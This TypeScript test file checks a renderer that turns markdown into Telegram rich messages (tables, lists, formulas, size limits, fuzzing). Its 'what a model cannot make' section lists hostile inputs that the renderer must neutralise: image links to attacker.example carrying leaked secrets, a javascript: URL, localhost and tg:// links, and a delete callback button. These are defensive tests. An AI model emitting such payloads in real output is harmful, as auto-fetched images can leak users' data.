import { describe, expect, test } from 'vitest'
import { parseRichMessage } from '../../../local/telegram/bot-api/rich-message.ts'
import { createRandom, readCorpus, readReadmes } from '../text/corpus.fake.ts'
import { gainsByRich, renderRich } from './render-rich.ts'
import { fits, type RichMessage } from './rich-message.ts'

const blocksOf = (markdown: string) => renderRich(markdown).blocks
const paragraph = (text: string) => ({ type: 'paragraph', text })

describe('blocks', () => {
  test('headings, paragraphs and rules', () => {
    expect(blocksOf('## A **b**\n\nwords\n\n---')).toEqual([
      { type: 'heading', size: 2, text: ['A ', { type: 'bold', text: 'b' }] },
      paragraph('words'),
      { type: 'divider' },
    ])
  })

  test('a table is a table, with its columns aligned', () => {
    expect(blocksOf('| day | °C |\n|---|--:|\n| Sa | **9** |')).toEqual([
      {
        type: 'table',
        is_bordered: true,
        cells: [
          [
            { text: 'day', is_header: true, align: 'left', valign: 'top' },
            { text: '°C', is_header: true, align: 'right', valign: 'top' },
          ],
          [
            { text: 'Sa', align: 'left', valign: 'top' },
            { text: { type: 'bold', text: '9' }, align: 'right', valign: 'top' },
          ],
        ],
      },
    ])
  })

  test('tasks have boxes, numbers begin where they begin, lists nest', () => {
    expect(blocksOf('- [x] done\n- [ ] open\n  - inner')).toEqual([
      {
        type: 'list',
        items: [
          { has_checkbox: true, is_checked: true, blocks: [paragraph('done')] },
          {
            has_checkbox: true,
            blocks: [paragraph('open'), { type: 'list', items: [{ blocks: [paragraph('inner')] }] }],
          },
        ],
      },
    ])
    expect(blocksOf('3. c\n4. d')).toEqual([
      {
        type: 'list',
        items: [
          { value: 3, type: '1', blocks: [paragraph('c')] },
          { value: 4, type: '1', blocks: [paragraph('d')] },
        ],
      },
    ])
  })

  test('code keeps its language, and its indentation', () => {
    expect(blocksOf('```go\n\tx()\n```')).toEqual([{ type: 'pre', language: 'go', text: '    x()' }])
    expect(blocksOf('```<script>\nx\n```')).toEqual([{ type: 'pre', text: 'x' }])
  })

  test('formulas that stand alone are formulas, dollars in a line are money', () => {
    const formula = [{ type: 'mathematical_expression', expression: 'E = mc^2' }]
    expect(blocksOf('$$E = mc^2$$')).toEqual(formula)
    expect(blocksOf('\\[\nE = mc^2\n\\]')).toEqual(formula)
    expect(blocksOf('```math\nE = mc^2\n```')).toEqual(formula)
    expect(blocksOf('from $400 to $500')).toEqual([paragraph('from $400 to $500')])
  })

  test('quotes nest', () => {
    expect(blocksOf('> a\n> > b')).toEqual([
      { type: 'blockquote', blocks: [paragraph('a'), { type: 'blockquote', blocks: [paragraph('b')] }] },
    ])
  })

  test('a text from the right says so', () => {
    expect(renderRich('**שלום** world').isRtl).toBe(true)
    expect(renderRich('hello שלום')).not.toHaveProperty('isRtl')
  })
})

describe('what a model cannot make', () => {
  const HOSTILE = [
    '<tg-button type="callback_data" data="a:delete:1">Click</tg-button>',
    '<img src="http://attacker.example/?leak">',
    '![leak](http://attacker.example/?secret=1)',
    '<tg-map lat="1" long="2"/>',
    '[x](javascript:alert(1)) [y](tg://user?id=1) [z](http://localhost/)',
    '<details open><summary>s</summary>x</details>',
  ]

  test.each(HOSTILE)('%s', (markdown) => {
    const made = JSON.stringify(renderRich(`words ${markdown}\n\n${markdown}`))
    const types = new Set([...made.matchAll(/"type":"(\w+)"/g)].map(([, type]) => type))
    expect([...types].filter((type) => type !== 'paragraph' && type !== 'url')).toEqual([])
    expect(made).not.toMatch(/"url":"(?!http:\/\/attacker)/)
  })

  test('a picture is a link, which nobody fetches before it is pressed', () => {
    expect(blocksOf('![a cat](https://example.org/c.png)')).toEqual([
      { type: 'paragraph', text: { type: 'url', text: '🖼 a cat', url: 'https://example.org/c.png' } },
    ])
  })
})

test('only tables, tasks and formulas show more than text can', () => {
  expect(gainsByRich(renderRich('# a\n\n- b\n\n```\nc\n```'))).toBe(false)
  for (const markdown of ['|a|\n|-|\n|b|', '- x\n  - [ ] y', '> |a|\n> |-|', '$$x$$'])
    expect(gainsByRich(renderRich(markdown)), markdown).toBe(true)
})

describe('what Telegram has no room for does not fit', () => {
  test.each([
    ['nothing', ''],
    ['a book', 'word '.repeat(7_000)],
    ['many blocks', 'x\n\n'.repeat(501)],
    ['many rows', `|a|\n|-|\n${'|b|\n'.repeat(500)}`],
    ['many columns', `${'|a'.repeat(21)}|\n${'|-'.repeat(21)}|`],
    ['deep lists', Array.from({ length: 10 }, (_, level) => `${'  '.repeat(level)}- x`).join('\n')],
  ])('%s', (_, markdown) => {
    expect(fits(renderRich(markdown))).toBe(false)
  })
})

test('every beginning of a real text, and pieces of them, are messages that the Bot API describes', () => {
  const accepted = ({ blocks, isRtl }: RichMessage) =>
    parseRichMessage({ blocks, skip_entity_detection: true, ...(isRtl ? { is_rtl: true } : {}) }, { thinking: false })
  const sources = [...readCorpus(), ...readReadmes()].map(({ source }) => source)
  const random = createRandom(7)
  let judged = 0
  const judge = (markdown: string) => {
    const message = renderRich(markdown)
    if (!fits(message)) return
    accepted(message)
    expect(JSON.stringify(message)).not.toMatch(/\\ud[89a-f]/)
    judged++
  }
  for (const { source } of readCorpus()) for (let end = 1; end <= source.length; end += 11) judge(source.slice(0, end))
  for (let round = 0; round < 1_000; round++) {
    const pieces = Array.from({ length: 5 }, () => {
      const source = sources[random(sources.length)] ?? ''
      const start = random(source.length)
      return source.slice(start, start + random(200))
    })
    judge(pieces.join('\ud83d\n'))
  }
  expect(judged).toBeGreaterThan(1_500)
})
